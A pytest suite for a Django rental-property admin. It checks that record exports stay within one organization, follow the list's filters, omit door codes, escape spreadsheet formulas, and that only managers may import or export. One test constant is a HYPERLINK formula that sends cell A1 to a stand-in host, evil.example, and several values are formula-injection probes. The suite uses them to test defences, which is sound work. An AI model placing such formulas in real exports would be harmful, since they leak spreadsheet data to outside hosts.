"""Records to take away (django-import-export through core.exports): stays, lock events,
alerts and guest messages as the admin list shows them (filters and search applied, one's
own organization only), formula-safe in CSV and XLSX, never a door code; properties in and
out with the library's preview; only managers may take records away or bring them in."""

from __future__ import annotations

import csv
import datetime
import io
import itertools
from urllib.parse import urlencode

import openpyxl
import pytest
from django.utils import timezone

from guests.models import GuestMessage
from guests.resources import GuestMessageResource
from properties.models import Property
from properties.resources import PropertyResource
from reservations.models import DeviceAlert, LockEvent, ReservationCode
from reservations.resources import (
    DeviceAlertResource,
    LockEventResource,
    ReservationResource,
)
from tests.factories import DeviceFactory, LockAssignmentFactory, ReservationFactory

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
CSV_FORMAT, XLSX_FORMAT = "0", "1"
_ids = itertools.count()

RESERVATIONS = "/admin/reservations/reservation/"
EVENTS = "/admin/reservations/lockevent/"
ALERTS = "/admin/reservations/devicealert/"
MESSAGES = "/admin/guests/guestmessage/"
PROPERTIES = "/admin/properties/property/"


def export(client, list_url, resource, query="", fmt=CSV_FORMAT):
    """The file the list's Export button gives, every column ticked."""
    fields = {
        f"{resource.__name__.lower()}_{name}": "on" for name in resource().get_export_order()
    }
    response = client.post(f"{list_url}export/{query}", {"format": fmt, "resource": "0", **fields})
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Disposition"].startswith("attachment")
    return response


def rows(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def xlsx_rows(response) -> list[tuple]:
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return list(sheet.iter_rows())


def lock_event(device, *, at, person="", kind=LockEvent.Kind.UNLOCKED, reservation=None):
    return LockEvent.objects.create(
        organization_id=device.organization_id,
        connection_id=device.connection_id,
        device=device,
        provider_event_id=f"evt_{next(_ids)}",
        event_type="lock.unlocked",
        kind=kind,
        method=LockEvent.Method.KEYPAD,
        occurred_at=at,
        person_name=person,
        reservation=reservation,
    )


# --------------------------------------------------------------- reservations


def test_reservation_export_is_the_filtered_list_of_ones_organization_without_codes(
    manager_client, org_a, org_b
):
    code = ReservationCode(reservation=org_a.reservation, generated_at=timezone.now())
    code.value = "739154"
    code.save()
    ReservationFactory(listing=org_a.listing, guest_name="Cancelled Carla", status="cancelled")
    response = export(manager_client, RESERVATIONS, ReservationResource, "?status=confirmed")
    found = rows(response)
    assert [r["guest"] for r in found] == ["Alpha Guest"]
    assert "Bravo Guest" not in response.content.decode()
    assert "739154" not in response.content.decode()
    # Check-in in the property's own time, its zone named.
    check_in = timezone.localtime(org_a.reservation.check_in, org_a.property.zone)
    assert found[0]["check-in"] == check_in.strftime("%Y-%m-%d %H:%M")
    assert found[0]["time zone"] == "Europe/Lisbon"


def test_reservation_export_follows_the_lists_search(manager_client, org_a):
    ReservationFactory(listing=org_a.listing, guest_name="Maria Searched")
    found = rows(export(manager_client, RESERVATIONS, ReservationResource, "?q=Maria"))
    assert [r["guest"] for r in found] == ["Maria Searched"]


def test_a_guest_named_like_a_formula_is_text_in_csv_and_xlsx(manager_client, org_a):
    ReservationFactory(listing=org_a.listing, guest_name=HOSTILE, source="+cmd", external_id="@x")
    found = rows(export(manager_client, RESERVATIONS, ReservationResource, "?q=HYPERLINK"))
    assert found[0]["guest"] == "'" + HOSTILE
    assert found[0]["source"] == "'+cmd"
    assert found[0]["external id"] == "'@x"

    sheet = xlsx_rows(
        export(manager_client, RESERVATIONS, ReservationResource, "?q=HYPERLINK", XLSX_FORMAT)
    )
    guest_cell = sheet[1][0]
    assert guest_cell.data_type == "s"  # a string cell, not a formula
    assert guest_cell.value == "'" + HOSTILE


def test_the_export_button_keeps_the_lists_filters(manager_client, org_a):
    page = manager_client.get(RESERVATIONS, {"status": "confirmed"}).content.decode()
    assert f'href="{RESERVATIONS}export/?status=confirmed"' in page


# --------------------------------------------------------------- lock events


def test_lock_event_export_is_one_locks_week_of_ones_organization(manager_client, org_a, org_b):
    now = timezone.now()
    other_lock = DeviceFactory(connection=org_a.device.connection, name="Back Door")
    LockAssignmentFactory(listing=org_a.listing, device=other_lock)
    lock_event(
        org_a.device,
        at=now - datetime.timedelta(days=2),
        person="Maria",
        reservation=org_a.reservation,
    )
    lock_event(org_a.device, at=now - datetime.timedelta(days=20), person="Too Old")
    lock_event(other_lock, at=now - datetime.timedelta(days=1), person="Other Door")
    lock_event(org_b.device, at=now - datetime.timedelta(days=1), person="Bravo Person")
    week_ago = (now - datetime.timedelta(days=7)).strftime("%Y-%m-%d %H:%M:%S%z")
    query = "?" + urlencode({"device__id__exact": org_a.device.pk, "occurred_at__gte": week_ago})
    response = export(manager_client, EVENTS, LockEventResource, query)
    found = rows(response)
    assert [r["who"] for r in found] == ["Maria"]
    assert found[0]["lock"] == "Alpha Front Door"
    assert found[0]["listing"] == "Alpha Flat"
    assert found[0]["time zone"] == "Europe/Lisbon"
    assert found[0]["stay"].startswith("Alpha Guest, ")
    assert "Bravo Person" not in response.content.decode()


def test_a_malformed_filter_on_the_export_page_is_the_lists_bad_lookup_not_a_500(
    manager_client,
):
    response = manager_client.get(f"{EVENTS}export/?occurred_at__gte=2026-13-45")
    assert response.status_code == 302
    assert response["Location"] == f"{EVENTS}?e=1"


def test_a_lock_event_by_a_formula_named_code_is_text(manager_client, org_a):
    lock_event(org_a.device, at=timezone.now(), person="-2+3")
    found = rows(export(manager_client, EVENTS, LockEventResource))
    assert found[0]["who"] == "'-2+3"


def test_another_organizations_lock_cannot_be_exported_by_naming_it(manager_client, org_b):
    lock_event(org_b.device, at=timezone.now(), person="Bravo Person")
    response = manager_client.post(
        f"{EVENTS}export/?device__id__exact={org_b.device.pk}",
        {"format": CSV_FORMAT, "resource": "0", "lockeventresource_who": "on"},
    )
    assert b"Bravo Person" not in response.content


# --------------------------------------------------------------- alerts


def test_alert_export_follows_the_open_filter_and_the_organization(manager_client, org_a, org_b):
    now = timezone.now()
    for org, message, resolved in (
        (org_a, "@SUM(A1) offline", None),
        (org_a, "Battery fine again", now),
        (org_b, "Bravo offline", None),
    ):
        DeviceAlert.objects.create(
            organization=org.organization,
            device=org.device,
            kind=DeviceAlert.Kind.OFFLINE if resolved is None else DeviceAlert.Kind.LOW_BATTERY,
            message=message,
            opened_at=now - datetime.timedelta(hours=1),
            resolved_at=resolved,
        )
    response = export(manager_client, ALERTS, DeviceAlertResource, "?state=open")
    found = rows(response)
    assert [r["message"] for r in found] == ["'@SUM(A1) offline"]
    assert found[0]["state"] == "open"
    assert found[0]["property"] == "Alpha House"
    assert "Bravo" not in response.content.decode()


# --------------------------------------------------------------- guest messages


def test_guest_message_export_follows_the_filter_and_the_organization(
    manager_client, org_a, org_b
):
    for org, state, recipient in (
        (org_a, GuestMessage.State.FAILED, "\tcmd@example.com"),
        (org_a, GuestMessage.State.SENT, "ok@example.com"),
        (org_b, GuestMessage.State.FAILED, "bravo@example.com"),
    ):
        GuestMessage.objects.create(
            organization=org.organization,
            reservation=org.reservation,
            kind="code",
            channel=GuestMessage.Channel.EMAIL,
            trigger=GuestMessage.Trigger.STAFF,
            state=state,
            recipient=recipient,
        )
    response = export(manager_client, MESSAGES, GuestMessageResource, "?outcome=failing")
    found = rows(response)
    assert [r["recipient"] for r in found] == ["'\tcmd@example.com"]
    assert found[0]["guest"] == "Alpha Guest"
    assert found[0]["state"] == "Failed"
    assert "bravo@example.com" not in response.content.decode()


# --------------------------------------------------------------- who may


@pytest.mark.parametrize("list_url", [RESERVATIONS, EVENTS, ALERTS, MESSAGES, PROPERTIES])
def test_staff_may_not_take_records_away(staff_client, list_url):
    assert staff_client.get(f"{list_url}export/").status_code == 403
    response = staff_client.post(f"{list_url}export/", {"format": CSV_FORMAT, "resource": "0"})
    assert response.status_code == 403
    page = staff_client.get(list_url).content.decode()
    assert f"{list_url}export/" not in page
    assert "export_admin_action" not in page


def test_a_staff_user_of_no_organization_is_refused(client, db):
    from tests.factories import UserFactory

    client.force_login(UserFactory(username="drifter"))
    assert client.get(f"{PROPERTIES}import/").status_code == 403
    assert client.get(f"{EVENTS}export/").status_code == 403


def test_staff_may_not_import_properties(staff_client):
    assert staff_client.get(f"{PROPERTIES}import/").status_code == 403
    upload = io.BytesIO(b"organization,name,time zone\nAlpha,Sneaky,UTC\n")
    upload.name = "p.csv"
    response = staff_client.post(
        f"{PROPERTIES}import/",
        {"resource": "0", "format": CSV_FORMAT, "import_file": upload},
    )
    assert response.status_code == 403
    assert not Property.objects.filter(name="Sneaky").exists()


# --------------------------------------------------------------- properties in and out


def _import_file(text: str):
    upload = io.BytesIO(text.encode())
    upload.name = "properties.csv"
    return upload


def _preview(client, text: str):
    return client.post(
        f"{PROPERTIES}import/",
        {"resource": "0", "format": CSV_FORMAT, "import_file": _import_file(text)},
    )


HEADER = "organization,name,address,time zone,check-in time,check-out time\n"


def test_property_import_previews_then_writes(manager_client, org_a):
    text = HEADER + "Alpha,'=Seaside,2 Beach Road,Europe/Madrid,16:00:00,10:00:00\n"
    preview = _preview(manager_client, text)
    assert preview.status_code == 200
    body = preview.content.decode()
    assert "=Seaside" in body and "Confirm import" in body
    assert not Property.objects.filter(address="2 Beach Road").exists()  # nothing yet

    form = preview.context["confirm_form"]
    response = manager_client.post(f"{PROPERTIES}process_import/", form.initial)
    assert response.status_code == 302
    created = Property.objects.get(address="2 Beach Road")
    # The apostrophe an export added is gone again: the round trip keeps the name.
    assert created.name == "=Seaside"
    assert created.organization == org_a.organization
    assert created.time_zone == "Europe/Madrid"
    assert created.check_in_time == datetime.time(16, 0)


def test_property_import_refuses_another_organization(manager_client, org_a, org_b):
    body = _preview(manager_client, HEADER + "Bravo,Planted,x,UTC,15:00:00,11:00:00\n")
    body = body.content.decode()
    assert "Confirm import" not in body
    assert "No organization “Bravo” among the ones you manage." in body
    assert not Property.objects.filter(name="Planted").exists()


def test_property_import_refuses_a_time_zone_that_is_not_one(manager_client, org_a):
    body = _preview(manager_client, HEADER + "Alpha,Nowhere,y,Mars/Base,15:00:00,11:00:00\n")
    body = body.content.decode()
    assert "Confirm import" not in body
    assert "is not an IANA time zone" in body  # the row's field message
    assert not Property.objects.filter(name="Nowhere").exists()


def test_property_import_updates_ones_own_row_never_anothers(manager_client, org_a, org_b):
    text = HEADER + f"Alpha,{org_a.property.name},New address,Europe/Lisbon,15:00:00,11:00:00\n"
    preview = _preview(manager_client, text)
    manager_client.post(f"{PROPERTIES}process_import/", preview.context["confirm_form"].initial)
    org_a.property.refresh_from_db()
    assert org_a.property.address == "New address"
    assert Property.objects.filter(name=org_a.property.name).count() == 1


def test_property_export_round_trips_through_import(manager_client, org_a, org_b):
    org_a.property.name = "+Corner House"
    org_a.property.save()
    response = export(manager_client, PROPERTIES, PropertyResource)
    found = rows(response)
    assert [r["name"] for r in found] == ["'+Corner House"]
    assert "Bravo" not in response.content.decode()
    preview = _preview(manager_client, response.content.decode("utf-8-sig"))
    manager_client.post(f"{PROPERTIES}process_import/", preview.context["confirm_form"].initial)
    assert list(
        Property.objects.filter(organization=org_a.organization).values_list("name", flat=True)
    ) == ["+Corner House"]
